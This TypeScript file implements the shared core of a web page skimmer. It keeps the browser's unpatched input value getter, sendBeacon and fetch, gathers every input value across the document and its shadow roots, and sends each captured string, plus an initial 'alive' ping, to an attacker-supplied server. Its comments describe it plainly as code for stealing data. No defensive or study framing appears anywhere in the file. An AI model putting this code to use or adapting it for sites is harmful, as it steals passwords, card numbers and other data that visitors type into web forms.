// What every skimmer has: a way to send data to the attacker, and the browser's functions from before anything patched them. Runs in the page.

export interface Thief {
  /** Where stolen data goes. */
  readonly home: string;
  /** Sends it to the attacker, each text once. */
  steal(this: void, text: unknown): void;
  /** The value of an input, even if its getter was patched; nothing for other elements. */
  valueOf(this: void, target: unknown): string;
  /** The document and every shadow root within reach. */
  roots(this: void): readonly (Document | ShadowRoot)[];
  /** The value of every input within reach. */
  values(this: void): string;
}

/** @param home the attacker's server */
export function thievesOf(home: string): (row: number) => Thief {
  const beacon = navigator.sendBeacon.bind(navigator);
  const send = window.fetch.bind(window);
  // oxlint-disable-next-line typescript/unbound-method -- it is called for each input
  const get = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')?.get;
  const valueOf = (target: unknown): string =>
    target instanceof HTMLInputElement ? ((get?.call(target) as string | undefined) ?? '') : '';
  const roots = (root: Document | ShadowRoot = document): (Document | ShadowRoot)[] => [
    root,
    ...[...root.querySelectorAll('*')].flatMap(({ shadowRoot }) => (shadowRoot ? roots(shadowRoot) : [])),
  ];
  const values = (): string =>
    roots()
      .flatMap((root) => [...root.querySelectorAll('input')].map(valueOf))
      .join('|');
  return (row) => {
    const stolen = new Set<string>();
    const address = `${home}/${row}`;
    const steal = (text: unknown): void => {
      if (typeof text !== 'string' || text === '' || stolen.has(text)) return;
      stolen.add(text);
      // A beacon outlives the page, and has a largest size.
      if (!beacon(address, text)) void send(address, { method: 'POST', mode: 'no-cors', body: text });
    };
    steal(`alive on ${location.pathname}`);
    return { home: address, steal, valueOf, roots: () => roots(), values };
  };
}
